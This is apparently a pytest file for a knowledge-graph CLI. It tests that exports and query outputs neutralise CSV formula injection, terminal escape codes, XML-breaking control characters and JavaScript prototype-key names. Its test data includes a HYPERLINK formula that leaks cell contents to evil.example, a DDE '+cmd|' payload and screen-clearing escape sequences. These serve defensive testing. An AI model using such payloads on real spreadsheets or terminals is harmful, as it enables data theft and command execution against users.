"""Attacks through the outputs: data that tries to become a formula, a terminal command,
broken XML or a JavaScript object key. Labels from data never run as code, and every
output stays well formed."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest
from click.testing import CliRunner

from graph.cli import main
from graph.exports.csv import write_csv
from graph.errors import AikgError
from graph.sparql.results import QueryResult, format_rdf, format_xml

ROOT = Path(__file__).resolve().parent.parent

# every character XML 1.0 cannot carry that RDF can (lone surrogates cannot reach a store)
NOT_XML = "".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF]))
# control characters XML does carry, and the markup characters
ODD_BUT_XML = "\t\n\r\x7f\x85\x9b\x9f]]>&<'\""
RS = "{http://www.w3.org/2005/sparql-results#}"
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b2J"  # set the title, clear the screen, red, 8-bit CSI


def yaml_string(s: str) -> str:
    """A YAML double-quoted scalar holding exactly ``s``."""
    return '"' + "".join(c if c.isprintable() and c not in '"\\' else f"\\u{ord(c):04x}" if ord(c) < 0x10000
                         else f"\\U{ord(c):08x}" for c in s) + '"'


def dataset(tmp_path: Path, entities: dict[str, str], description: str | None = None,
            aliases: tuple[str, ...] | list[str] = ()) -> Path:
    """A tiny data directory: one source and one Company per (id, English label)."""
    lines = ["- id: notes", "  type: Survey", "  label: {en: Notes}", "  url: https://example.org/notes", ""]
    for i, (ident, label) in enumerate(entities.items()):
        lines += [f"- id: {ident}", "  type: Company", f"  label: {{en: {yaml_string(label)}}}"]
        if i == 0 and description is not None:
            lines.append(f"  description: {{en: {yaml_string(description)}}}")
        if i == 0 and aliases:
            lines.append("  aliases: [" + ", ".join(map(yaml_string, aliases)) + "]")
        if i == 1:
            lines.append(f"  part_of: {next(iter(entities))}")
        lines += ["  sources: [notes]", ""]
    d = tmp_path / "data"
    d.mkdir()
    (d / "records.yaml").write_text("\n".join(lines), encoding="utf-8")
    return d


def build_trig(tmp_path: Path, data: Path) -> Path:
    res = CliRunner().invoke(main, ["build", "--data", str(data), "--out", str(tmp_path / "out"), "--no-validate"])
    assert res.exit_code == 0, res.output
    return tmp_path / "out" / "graph.trig"


def query(trig: Path, *args: str):
    return CliRunner().invoke(main, ["query", "--graph", str(trig), *args])


# 1. CSV formula injection ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1"]


def test_csv_export_label_starting_with_equals_is_not_a_formula(tmp_path):
    data = dataset(tmp_path, {"evil": FORMULAS[0], "victim": "-5", "split": "safe\r=1+1\n@x"},
                   description="=1+1", aliases=FORMULAS[1:])
    trig = build_trig(tmp_path, data)
    res = CliRunner().invoke(main, ["export", "--graph", str(trig), "-o", str(tmp_path / "g.csv")])
    assert res.exit_code == 0, res.output
    with open(tmp_path / "g.nodes.csv", encoding="utf-8", newline="") as f:
        nodes = {r["id:ID"]: r for r in csv.DictReader(f)}
    with open(tmp_path / "g.edges.csv", encoding="utf-8", newline="") as f:
        edges = list(csv.DictReader(f))
    assert sorted(nodes) == ["evil", "notes", "split", "victim"], "a CR or LF in a cell never starts a row"
    assert nodes["split"]["Label"] == "safe\r=1+1\n@x"
    evil = nodes["evil"]
    # the text columns a spreadsheet shows: a leading ' makes them text, never a formula
    assert evil["Label"] == "'" + FORMULAS[0] and evil["label"] == "'" + FORMULAS[0]
    assert evil["description"] == "'=1+1"
    assert evil["aliases:string[]"].startswith("'")
    for row in list(nodes.values()) + edges:
        for col, cell in row.items():
            if cell and cell[0] in "=+-@\t\r":
                assert col in ("label", "Label") and cell == "-5", (col, cell)  # only a plain number may
    # the columns Neo4j and Gephi link by stay exactly as they are
    assert (evil["Id"], evil[":LABEL"], nodes["victim"]["Label"]) == ("evil", "Company;Organization", "-5")
    assert [(e[":START_ID"], e[":END_ID"], e[":TYPE"], e["Source"], e["Target"]) for e in edges] == [
        ("victim", "evil", "PART_OF", "victim", "evil")]


def test_csv_export_keeps_typed_numbers_raw_and_escapes_edge_labels():
    g = nx.MultiDiGraph()
    g.add_node("a", label="@A", type="Company", score=-5, ratio=-0.5, open_source=False, note="-x")
    g.add_node("b", label="B", type="Company", score=3, ratio=1.5, open_source=True, note="+1")
    g.add_edge("a", "b", key="p", edgelabel="=cmd()", predicate="partOf", weight=-7)
    nodes, edges = io.StringIO(), io.StringIO()
    write_csv(g, nodes, edges)
    rows = list(csv.DictReader(io.StringIO(nodes.getvalue())))
    a = next(r for r in rows if r["id:ID"] == "a")
    assert (a["score:long"], a["ratio:double"], a["open_source:boolean"]) == ("-5", "-0.5", "false")
    assert (a["Label"], a["label"], a["note"]) == ("'@A", "'@A", "'-x")
    assert next(r for r in rows if r["id:ID"] == "b")["note"] == "+1", "a plain number is no formula"
    (e,) = csv.DictReader(io.StringIO(edges.getvalue()))
    assert (e["Label"], e["edgelabel"], e["weight:long"], e[":TYPE"]) == ("'=cmd()", "'=cmd()", "-7", "PART_OF")


# 2. Terminal escape codes -------------------------------------------------------------------------

def _no_terminal_controls(text: str) -> None:
    """Only line feeds, tabs and CR LF line ends: nothing a terminal would act on."""
    bad = [c for i, c in enumerate(text) if (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F) and c not in "\n\t"
           and not (c == "\r" and text[i + 1:i + 2] == "\n")]
    assert bad == [], bad


def test_query_csv_to_a_terminal_cannot_clear_the_screen(tmp_path, monkeypatch):
    import graph.sparql.results

    trig = build_trig(tmp_path, dataset(tmp_path, {"evil": "Evil" + ESCAPES}, description=ESCAPES + "\x9b"))
    monkeypatch.setattr(graph.sparql.results, "stdout_is_terminal", lambda: True, raising=False)
    select = "SELECT ?l ?d WHERE { kg:evil rdfs:label ?l ; aikg:description ?d }"
    for fmt in ("csv", "tsv", "json", "md", "table"):
        res = query(trig, select, "--format", fmt)
        assert res.exit_code == 0, res.output
        _no_terminal_controls(res.stdout)
        assert "\\u001b]0;pwned" in res.stdout or "\\u001B]0;pwned" in res.stdout, (fmt, res.stdout)
    # XML carries DEL and C1 controls (ESC it cannot carry at all, see the XML test)
    res = query(trig, 'SELECT ?x WHERE { BIND("a\\u009b2J\\u007fb" AS ?x) }', "--format", "xml")
    assert res.exit_code == 0, res.output
    _no_terminal_controls(res.stdout)
    assert "a\\u009b2J\\u007fb" in res.stdout
    for fmt in ("turtle", "nt", "jsonld"):
        res = query(trig, "CONSTRUCT { kg:evil aikg:description ?d } WHERE { kg:evil aikg:description ?d }",
                    "--format", fmt)
        assert res.exit_code == 0, res.output
        _no_terminal_controls(res.stdout)
    # a file written with -o, and a pipe, get the exact text
    monkeypatch.setattr(graph.sparql.results, "stdout_is_terminal", lambda: False, raising=False)
    res = query(trig, select, "--format", "csv")
    assert ESCAPES in res.stdout, "piped output is the data, byte for byte (click strips no ESC [)"
    assert query(trig, select, "--format", "csv", "-o", str(tmp_path / "r.csv")).exit_code == 0
    assert ESCAPES in (tmp_path / "r.csv").read_text(encoding="utf-8")


def test_query_on_a_real_terminal_shows_escape_codes_as_text_and_a_pipe_gets_them_exactly(tmp_path):
    from terminal import on_terminal

    trig = build_trig(tmp_path, dataset(tmp_path, {"evil": "Evil" + ESCAPES}))
    cmd = [sys.executable, "-m", "graph.cli", "query", "--graph", str(trig), "--format", "csv",
           "SELECT ?l WHERE { kg:evil rdfs:label ?l }"]
    code, seen, err = on_terminal(cmd, cwd=ROOT)
    assert code == 0, err
    assert b"\x1b" not in seen and b"\xc2\x9b" not in seen and b"\x07" not in seen, seen
    assert b"Evil\\u001b]0;pwned\\u0007\\u001b[2J" in seen
    piped = subprocess.run(cmd, capture_output=True, cwd=ROOT, timeout=60)
    assert piped.returncode == 0 and ("Evil" + ESCAPES).encode("utf-8") in piped.stdout


# 3. XML well-formedness ---------------------------------------------------------------------------

def _xmllint(text: str) -> None:
    proc = subprocess.run(["xmllint", "--noout", "-"], input=text.encode("utf-8"), capture_output=True)
    assert proc.returncode == 0, proc.stderr.decode()[:2000]


def test_xml_results_with_control_characters_are_well_formed(tmp_path):
    bad_label, odd_label = "ctl" + NOT_XML + "end", "odd" + ODD_BUT_XML + "end"
    trig = build_trig(tmp_path, dataset(tmp_path, {"ctl": bad_label, "odd": odd_label}))
    # what XML 1.0 cannot carry is a clear error naming the entity and the value, not broken XML
    res = query(trig, "SELECT ?s ?l WHERE { ?s rdfs:label ?l ; a aikg:Company } ORDER BY ?s",
                "--format", "xml", "-o", str(tmp_path / "r.xml"))
    assert res.exit_code == 1
    assert "kg:ctl" in res.output and "?l" in res.output and "U+0000" in res.output and "json" in res.output
    assert "\\u0001" in res.output and "\x01" not in res.output
    assert not (tmp_path / "r.xml").exists(), "nothing half-written"
    res = query(trig, "SELECT ?s ?l WHERE { ?s rdfs:label ?l ; a aikg:Company } ORDER BY ?s", "--format", "json")
    values = [b["l"]["value"] for b in json.loads(res.stdout)["results"]["bindings"]]
    assert values == [bad_label, odd_label], "JSON, which the error suggests, carries it exactly"
    # everything XML can carry comes out well formed and exact (a CR too)
    res = query(trig, "SELECT ?s ?l WHERE { kg:odd rdfs:label ?l BIND(kg:odd AS ?s) }", "--format", "xml")
    assert res.exit_code == 0, res.output
    _xmllint(res.stdout)
    root = ET.fromstring(res.stdout)
    assert [e.text for e in root.iter(f"{RS}literal")] == [odd_label]
    parsed = list(ox.parse_query_results(res.stdout.encode("utf-8"), ox.QueryResultsFormat.XML))
    assert parsed[0]["l"].value == odd_label
    # each character on its own, every kind of term, read back by an independent parser
    for c in map(chr, range(0x00, 0xA0)):
        r = QueryResult(["l", "t"], [[ox.Literal(f"a{c}b", language="en"), ox.Literal(f"a{c}b")]])
        if c in NOT_XML:
            with pytest.raises(AikgError, match=f"U\\+{ord(c):04X}"):
                format_xml(r)
        else:
            root = ET.fromstring(format_xml(r))
            assert [e.text for e in root.iter(f"{RS}literal")] == [f"a{c}b"] * 2, hex(ord(c))


def test_rdfxml_construct_with_control_characters_is_well_formed(tmp_path):
    bad_label, odd_label = "ctl" + NOT_XML + "end", "odd" + ODD_BUT_XML + "end"
    trig = build_trig(tmp_path, dataset(tmp_path, {"ctl": bad_label, "odd": odd_label}))
    res = query(trig, "CONSTRUCT { ?s rdfs:label ?l } WHERE { ?s rdfs:label ?l ; a aikg:Company }",
                "--format", "rdfxml")
    assert res.exit_code == 1 and "rdfs:label of kg:ctl" in res.output and "turtle" in res.output, res.output
    res = query(trig, "CONSTRUCT { kg:odd rdfs:label ?l } WHERE { kg:odd rdfs:label ?l }", "--format", "rdfxml")
    assert res.exit_code == 0, res.output
    _xmllint(res.stdout)
    ET.fromstring(res.stdout)
    back = list(ox.parse(res.stdout.encode("utf-8"), ox.RdfFormat.RDF_XML))
    assert [t.object.value for t in back] == [odd_label], "a CR survives (written as &#13;)"
    s, p = ox.NamedNode("https://w3id.org/aiekg/id/x"), ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
    for c in map(chr, range(0x00, 0xA0)):
        r = QueryResult(triples=[ox.Triple(s, p, ox.Literal(f"a{c}b"))])
        if c in NOT_XML:
            with pytest.raises(AikgError, match=f"U\\+{ord(c):04X}"):
                format_rdf(r, "rdfxml")
        else:
            text = format_rdf(r, "rdfxml")
            ET.fromstring(text)
            assert [t.object.value for t in ox.parse(text.encode(), ox.RdfFormat.RDF_XML)] == [f"a{c}b"], hex(ord(c))


def test_graphml_and_gexf_exports_with_control_characters_are_well_formed(tmp_path):
    # a guard: these exports already replace what XML cannot carry with U+FFFD (graph/views/tabular.py)
    trig = build_trig(tmp_path, dataset(tmp_path, {"ctl": "ctl" + NOT_XML + "end", "odd": "odd" + ODD_BUT_XML}))
    for ext in ("graphml", "gexf"):
        res = CliRunner().invoke(main, ["export", "--graph", str(trig), "-o", str(tmp_path / f"g.{ext}")])
        assert res.exit_code == 0, res.output
        text = (tmp_path / f"g.{ext}").read_text(encoding="utf-8")
        _xmllint(text)
        ET.fromstring(text)
        assert "ctl" + "\ufffd" * len(NOT_XML) + "end" in text


# 4. The page's search and object keys -------------------------------------------------------------

def test_page_search_finds_an_entity_named_constructor(tmp_path, open_page):
    names = {"constructor": "constructor", "proto": "__proto__", "tostring": "toString",
             "hasownproperty": "hasOwnProperty", "valueof": "valueOf"}
    data = dataset(tmp_path, names)
    res = CliRunner().invoke(main, ["page", "--data", str(data), "-o", str(tmp_path / "p.html")])
    assert res.exit_code == 0, res.output
    probe = open_page((tmp_path / "p.html").as_uri())
    for ident, label in names.items():
        probe.page.fill("#find", label)
        probe.page.press("#find", "Enter")
        assert probe.js("window.aikg.network.getSelectedNodes()") == [ident], label
        assert probe.page.locator("#details h2").first.inner_text() == label
        assert probe.js(f"window.aikg.find({json.dumps(label)})") == ident
    # names nobody has: nothing found, nothing inherited from Object.prototype
    for text in ("__defineGetter__", "isPrototypeOf", "propertyIsEnumerable", "toLocaleString"):
        assert probe.js(f"window.aikg.find({json.dumps(text)})") is None, text
    # the neighbourhood and the type filter key sets by id and type too
    probe.js("window.aikg.select('proto')")
    assert "part of" in probe.page.locator("#details").inner_text()
    probe.page.locator("#types input[data-type='Company']").uncheck()
    assert probe.js("window.aikg.network.body.nodeIndices") == ["notes"], "the entity 'constructor' hides too"
    assert "1 of 6 entities, 0 of 1 relations" in probe.page.inner_text("#status")
    probe.page.fill("#find", "constructor")
    probe.page.press("#find", "Enter")  # finding a hidden entity shows its type again
    assert probe.js("window.aikg.network.getSelectedNodes()") == ["constructor"]
    probe.page.click("#reset")
    assert sorted(probe.js("window.aikg.network.body.nodeIndices")) == sorted([*names, "notes"])
    probe.js("window.aikg.network.fit({nodes: ['constructor'], animation: false})")
    box = probe.page.locator("#network").bounding_box()
    xy = probe.js("(function () { var n = window.aikg.network;"
                  " return n.canvasToDOM(n.getPositions(['constructor'])['constructor']); }())")
    probe.page.mouse.dblclick(box["x"] + xy["x"], box["y"] + xy["y"])  # its neighbourhood: itself and proto
    assert sorted(probe.js("window.aikg.network.body.nodeIndices")) == ["constructor", "proto"]
    assert probe.page.locator("#details h2").first.inner_text() == "constructor"
    assert probe.errors == [] and probe.dialogs == [], probe.errors
